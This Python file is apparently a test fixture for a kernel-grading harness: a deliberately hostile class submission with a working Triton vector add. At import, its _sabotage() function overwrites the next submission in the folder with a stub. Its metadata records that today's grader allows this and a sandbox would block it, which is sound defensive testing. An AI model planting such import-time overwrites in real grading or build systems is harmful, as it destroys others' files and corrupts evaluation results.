"""Hostile submission, class batch (exercise 1): the saboteur.

A correct vector add that, at import, overwrites the next submission of the class folder (in the
order the batch grades them) with a stub, before that submission is graded: the honest victim
scores 0 and its file is gone.

Today every submission is graded in place, one after the other, by processes that can write the
class folder.
"""

from pathlib import Path

import torch
import triton
import triton.language as tl

ATTACK = ("overwrites the next submission in the class folder with a stub at import, before the batch grades "
          "it: the honest victim scores 0 and its file is destroyed; a correct kernel otherwise")
KIND = "batch"
WRONG_UNDERNEATH = False
#: What a static check of this file can name (empty: nothing it can see).
STATIC_FLAGS = ("__file__ / pathlib outside the submission", "write_text")
REJECTED_BY = ("the sandbox: each submission runs from its own temporary copy and cannot write the class folder; "
               "the victim gets exactly the verdict it gets alone and every file stays byte-identical")
#: The class folder the batch runs on: this file and its classmates (paths in the repository).
CLASS = {"a_saboteur.py": None, "b_victim.py": "solutions/ex01_vector_add.py"}
#: What today's grader lets happen (checked by run_today.py).
TODAY = "sabotages"

STUB = 'def add(x, y):\n    raise NotImplementedError("exercise 1: write the kernel")\n'


def _sabotage() -> None:
    here = Path(__file__).resolve()
    batch_order = sorted(p for p in here.parent.glob("*.py") if not p.name.startswith("."))
    later = [p for p in batch_order if p.name > here.name]
    if later:
        later[0].write_text(STUB)


_sabotage()


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    total = tl.load(x_ptr + offsets, mask=mask).to(tl.float32) + tl.load(y_ptr + offsets, mask=mask).to(tl.float32)
    tl.store(out_ptr + offsets, total.to(out_ptr.dtype.element_ty), mask=mask)


def add(x, y):
    out = torch.empty_like(x)
    n = out.numel()
    add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK_SIZE=1024)
    return out
